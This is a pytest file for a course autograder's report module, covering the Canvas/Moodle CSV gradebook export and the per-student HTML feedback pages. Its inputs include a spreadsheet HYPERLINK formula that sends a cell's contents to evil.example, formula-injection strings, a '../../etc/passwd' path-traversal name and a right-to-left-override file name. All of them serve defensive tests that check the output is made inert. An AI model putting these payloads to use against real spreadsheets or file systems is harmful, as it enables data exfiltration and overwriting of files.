"""What is handed on: who has how many points, the file for other programs, a page for each student."""

import csv
import io
import re
from pathlib import Path

import pandas
import pytest

from course_lib.lab.registry import exercises
from grader.cli import main
from grader.course import ROOT
from grader.judge import flags, student
from grader.judge.feedback import name_files, remove_hole, write_pages
from grader.judge.grade import ExerciseResult, Result
from grader.judge.grades import collect_students, format_students, make_inert
from grader.judge.report import collect_results, render_page
from grader.judge.store import Store, read_results
from tests.hostile import CASES
from tests.outside import loads
from tests.test_judge_report import BAD, graded, row, words

FORMULA = '=HYPERLINK("http://evil.example?"&A2,"x")'


def rope(name: str, half: ExerciseResult, turn: ExerciseResult) -> Result:
    return Result(name, "graded", "02_rope", exercises={"rotate-half": half, "apply-rope": turn})


OPEN = ExerciseResult("UNGRADABLE", 0, 2, "NO-ANSWER", "No answer found", person="its cell is gone")
CLASS = [
    graded("c/Zoë Müller/01_rmsnorm.ipynb", row("PASS")),
    rope("c/Zoë Müller/02_rope.ipynb", row("PASS"), row("WRONG", "SIGN", "check 2 of 5: signs")),
    graded("c/ben/01_rmsnorm.ipynb", row("WRONG", "RMS-SUM", "check 3 of 7: a sum [RMS-SUM]")),
    rope("c/ben/02_rope/02_rope.ipynb", row("PASS"), OPEN),
    graded("c/cy/01_rmsnorm-Copy1.ipynb", row("PASS")),
    graded("c/cy/01_rmsnorm.ipynb", row("ERROR", "STUB", "not attempted")),
    Result("c/dot/01_rmsnorm.ipynb", "ungradable", reason="its text is not JSON"),
    Result("c/dot/notes.ipynb", "ungradable", reason="it has no exercise of this course in it"),
    graded(f"c/{FORMULA}/01_rmsnorm.ipynb", row("PASS")),
]  # fmt: skip
"""Students: two lessons, one that is open, two notebooks of one, a broken one, a formula."""


def read_csv(results=CLASS) -> pandas.DataFrame:
    return pandas.read_csv(io.BytesIO(format_students(collect_students(results))))


@pytest.mark.parametrize("notebook, folders, name", [
    ("c/ada/01_rmsnorm.ipynb", ["c"], "ada"),
    ("c/ada/week 1/01_rmsnorm.ipynb", ["c"], "ada"),
    ("c/ada/01_rmsnorm/01_rmsnorm.ipynb", ["c"], "ada"),
    ("c/ada/01_rmsnorm/01_rmsnorm.ipynb", ["c/ada"], "ada"),
    ("c/ada/01_rmsnorm-Copy1.ipynb", ["c/ada", "c/ben"], "ada"),
    ("c/ada/homework.ipynb", ["c/ada", "c/ben"], "ada"),
    ("c/ada/01_rmsnorm.ipynb", ["c/ada/01_rmsnorm.ipynb"], "ada"),
    ("c/ada_01_rmsnorm.ipynb", ["c"], "ada"),
    ("c/01_rmsnorm/ada_1_2_01_rmsnorm-1.ipynb", ["c"], "ada"),
    ("c/adalovelace_4711_98765_01_rmsnorm.ipynb", ["c"], "adalovelace"),
    ("c/adalovelace_LATE_4711_98765_01_rmsnorm-2.ipynb", ["c"], "adalovelace"),
    ("c/a/adalovelace_4711_98765_homework.ipynb", ["c/a", "c/b"], "adalovelace"),
    ("adalovelace_4711_98765_10_schedule.ipynb", [], "adalovelace"),
    ("c/ada_4711_10_schedule.ipynb", ["c"], "ada_4711"),
    ("c/ben/ada_4711_98765_10_schedule.ipynb", ["c"], "ben"),
    ("c/01_rmsnorm/ada.ipynb", ["c/01_rmsnorm", "c/02_rope"], "ada"),
    ("c/ada/01_rmsnorm.ipynb", [], "ada"),
    ("c/a.d.a", ["c"], "a.d.a"),
])  # fmt: skip
def test_a_student_is_found_by_the_folder(notebook, folders, name):
    assert student.find_student(notebook, [Path(one) for one in folders]) == name


def test_names_of_canvas_keep_the_number_by_which_canvas_imports(tmp_path):
    names = ["adalovelace_4711_98765_01_rmsnorm.ipynb",
             "adalovelace_LATE_4711_98766_01_rmsnorm-2.ipynb",
             "smithjo_12_98767_01_rmsnorm.ipynb", "smithjo_13_98768_homework.ipynb",
             "x_2026_10_01_rmsnorm.ipynb", "y_2026_11_01_rmsnorm.ipynb"]  # fmt: skip
    with Store(tmp_path / "grades.jsonl", folders=[Path("c")]) as kept:
        for name in names:
            kept.add(name, graded(f"c/{name}", row("PASS")))
        kept.add("ben", graded("c/ben/01_rmsnorm.ipynb", row("PASS")))
    found = collect_results(read_results(tmp_path / "grades.jsonl"))
    table = csv.DictReader(io.StringIO(format_students(found.students).decode("utf-8-sig")))
    assert [(one["Student"], one["ID"], one["SIS Login ID"]) for one in table] == [
        ("adalovelace", "4711", ""),
        ("ben", "", "ben"),
        ("smithjo_12", "12", ""),
        ("smithjo_13", "13", ""),
        ("x", "", "x"),  # two names never share a number, so this is a date
        ("y", "", "y"),
    ]
    page = words(render_page(found, "x"))
    assert "smithjo_13 2 2" in page and "adalovelace 01_rmsnorm c/adalovelace_4711" in page
    assert len(write_pages(found.students, tmp_path / "pages")) == 6


def test_pandas_reads_a_row_for_each_student_and_the_points_of_each_lesson():
    table = read_csv().set_index("SIS Login ID")
    assert list(table.columns) == [
        "Student", "ID", "SIS User ID", "Section", "01_rmsnorm", "02_rope", "Final Points",
    ]  # fmt: skip
    assert len(table) == 5
    assert table.loc["Zoë Müller", ["01_rmsnorm", "02_rope", "Final Points"]].tolist() == [2, 2, 4]
    assert table.loc["cy", ["01_rmsnorm", "Final Points"]].tolist() == [2, 2], "the better one"
    empty = table.isna()
    assert empty.loc["ben", ["01_rmsnorm", "02_rope", "Final Points"]].tolist() == [0, 1, 1]
    assert empty.loc["dot", ["01_rmsnorm", "Final Points"]].all(), "not decided is not zero"
    assert table["01_rmsnorm"].dtype == float


def test_excel_canvas_and_moodle_read_it():
    data = format_students(collect_students(CLASS))
    assert data.startswith(b"\xef\xbb\xbfStudent,ID,"), "Excel: a mark; Canvas: no quote after it"
    lines = data.decode("utf-8-sig").split("\r\n")
    assert "Zoë Müller" in data.decode("utf-8-sig") and lines[-1] == ""
    header, *rows = csv.reader(lines[:-1])
    # the order that Canvas' gradebook importer looks for, and its name for a column to leave out
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert header[-1] == "Final Points"
    assert not [one for one in header if "(" in one], "Canvas would take a number for an id"
    # Moodle stops at a row without a user, as Canvas' own row of possible points would be
    assert all(one[0] and one[3] for one in rows)


@pytest.mark.parametrize("name", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "a;=1+1", "a\n=1", "＝1", FORMULA,
])  # fmt: skip
def test_a_name_runs_in_no_spreadsheet(name):
    """Where cells are parted by commas, and where Excel parts them by semicolons."""
    made = [graded("x", row("PASS"), student=name), graded("y", row("PASS"), student="plain")]
    text = format_students(collect_students(made)).decode("utf-8-sig")
    for delimiter in ",;":
        cells = [cell for one in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in one]
        assert not [cell for cell in cells if re.match(r"\s*[=+\-@＝]", cell)]
    assert make_inert("Ada O'Neill-Smith; BA") == "Ada O'Neill-Smith; BA"


def test_the_page_has_the_points_and_what_is_open_before_them():
    text = words(render_page(collect_results(CLASS), "grades.jsonl"))
    assert (
        text.index("its text is not JSON") < text.index("its cell is gone") < text.index(" Points")
    )
    for said in (
        "9 notebooks of 5 students",
        "01 rmsnorm of 2 02 rope of 4",
        "ben 0 ? ?",
        "cy 2 – 2",
        "dot ? – ?",
        "Zoë Müller 2 2 4",
        "the one with the most points counts",
        "c/cy/01_rmsnorm-Copy1.ipynb c/cy/01_rmsnorm.ipynb",
        "4 students, median 2 of 2 points. The median leaves out 1 whose notebook waits for a person.",
        "1 student, median 2 of 4 points. The median leaves out "
        "1 whose notebook waits for a person and 3 who handed none in.",
    ):
        assert said in text, said


def test_flags_are_by_kind_and_the_serious_ones_first():
    made = [graded(f"s{i}", row("PASS", flags=(flag,)))
            for i, flag in enumerate(("MATCHED", "SAME", "DUP", "NEW-ONE", "SAME"))]  # fmt: skip
    found = collect_results(made)
    assert list(found.flags) == ["NEW-ONE", "SAME", "DUP", "MATCHED"]
    text = words(render_page(found, "x"))
    for flag in found.flags:
        assert f"{flag} {found.legend[flag]}" in text, "in the legend"
    assert "SAME it is nearly the answer" in text and "(2 notebooks)" in text


def test_every_flag_has_its_sentence():
    raised = {flag for case in CASES for found in case.flags.values() for flag in found}
    assert raised and not raised - set(flags.FLAGS), "add them to grader/judge/flags.py"
    assert flags.TOLD < set(flags.FLAGS)
    page = (ROOT / "book/reference/instructors.md").read_text(encoding="utf-8")
    assert "\n".join(f"| `{flag}` | {text} |" for flag, text in flags.FLAGS.items()) in page


def test_a_results_file_knows_the_students(tmp_path):
    folder = tmp_path / "class"
    with Store(tmp_path / "grades.jsonl", folders=[folder]) as store:
        for person in ("ada", "ben"):
            store.add("same", graded(f"{folder}/{person}/deep/01_rmsnorm.ipynb", row("PASS")))
        copied = f"{folder}/cy/01_rmsnorm.ipynb"
        assert store.has(copied, "same")
    found = read_results(tmp_path / "grades.jsonl")
    assert [one.student for one in found] == ["ada", "ben", "cy"], "a copied row is not the first's"


def pages(tmp_path) -> dict[str, str]:
    students = collect_students(CLASS)
    made = write_pages(students, tmp_path / "feedback")
    return {
        one.name: path.read_text(encoding="utf-8") for one, path in zip(students, made, strict=True)
    }


def test_feedback_says_what_was_asked_right_and_wrong(tmp_path):
    found = pages(tmp_path)
    ben, zoe = words(found["ben"]), words(found["Zoë Müller"])
    assert "Not yet right , 0 of 2 points" in ben and "check 3 of 7: a sum [RMS-SUM]" in ben
    assert "Scale each vector to root mean square 1" in ben and "course hint rmsnorm" in ben
    assert "A person will look at it" in ben and "there is no total yet" in ben
    assert "Right , 2 of 2 points" in zoe and "4 points altogether" in zoe
    assert "could not be graded: its text is not JSON." in words(found["dot"])
    assert "notes.ipynb" in words(found["dot"])
    assert "You handed in 2 notebooks of this lesson" in words(found["cy"])


def test_feedback_has_nobody_elses_data_and_nothing_for_graders(tmp_path):
    mine = graded("c/mine/01_rmsnorm.ipynb", row("PASS", flags=("SAME", "TAMPERED"), person=BAD),
                  notes=("equal to the answer of other",))  # fmt: skip
    theirs = graded("c/other/01_rmsnorm.ipynb", row("WRONG", "ODD", BAD))
    students = collect_students([mine, theirs])
    first, second = (path.read_text() for path in write_pages(students, tmp_path))
    assert "other" not in words(first).replace("another", "") and "mine" not in words(second)
    assert "SAME" not in first and "nearly the answer" not in first and "evil" not in first
    assert "a check or its settings were changed" in first
    for html in (first, second):
        assert loads(html) == [] and "<script" not in html
        assert not re.search(r"<[^>]*\bon\w+=", html)


@pytest.mark.parametrize("name", [
    "../../etc/passwd", "a/b", ".", "..", "", "CON", "nul.txt", "a:b*c?", "x" * 400, "é" * 300,
    "a\udcff", "名前", "-rf", "trailing. ", "a\nb", "\u202egnp.exe",
])  # fmt: skip
def test_a_pages_name_is_safe_whatever_the_student_is_called(name, tmp_path):
    made = write_pages(
        collect_students([graded("c/x", row("PASS"), student=name or "c")]), tmp_path
    )
    (path,) = made
    assert path.parent == tmp_path and path.is_file() and len(path.name.encode()) < 110
    assert re.fullmatch(r"\w[\w.-]*\.html", path.name), path.name
    assert path.stem.casefold() not in ("con", "nul.txt")


def test_no_two_students_share_a_page():
    names = ["ada", "Ada", "a b", "a_b", "a/b", "e\u0301", "\u00e9", "ben"]
    made = name_files(names)
    assert len({one.casefold() for one in made.values()}) == len(names)
    assert (
        made["ben"] == "ben.html" and made["a b"] != "a_b.html" and made == name_files(names[::-1])
    ), "whatever the order"


def test_what_was_asked_is_shown_without_the_hole():
    for card in exercises().values():
        assert "NotImplementedError(" not in remove_hole(card.stub), card.id
        assert remove_hole(card.stub).count("\n") >= card.stub.count("\n") - 3 * len(card.blank)


def test_the_command_writes_all_three(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    with Store(tmp_path / "grades.jsonl", folders=[Path("c")]) as store:
        for number, result in enumerate(CLASS):
            store.add(str(number), result)
    assert main(["report", "--feedback", "feedback"]) == 0
    said = capsys.readouterr().out
    assert "grades.csv: 5 students, 2 lessons" in said and "feedback: 5 pages" in said
    assert (tmp_path / "grades.csv").read_bytes() == format_students(
        collect_students(read_results(tmp_path / "grades.jsonl"))
    )
    assert len(list((tmp_path / "feedback").iterdir())) == 5
    assert main(["report", "--csv", "else/where.csv"]) == 2


@pytest.mark.parametrize("mark", ["gradebook.db", "nbgrader_config.py"])
def test_the_report_leaves_nbgraders_export_alone(mark, tmp_path, monkeypatch, capsys):
    """The export has points by hand, and the same name."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / mark).touch()
    (tmp_path / "grades.csv").write_text("points by hand")
    with Store(tmp_path / "grades.jsonl", folders=[Path("c")]) as store:
        store.add("0", CLASS[0])
    assert main(["report"]) == 0
    assert (tmp_path / "grades.csv").read_text() == "points by hand"
    assert "class.csv: 1 students" in capsys.readouterr().out
    assert (tmp_path / "class.csv").read_bytes().startswith(b"\xef\xbb\xbfStudent,ID,")
    assert main(["report", "--csv", "grades.csv"]) == 0, "whoever names it means it"
    assert "Student" in (tmp_path / "grades.csv").read_text(encoding="utf-8")
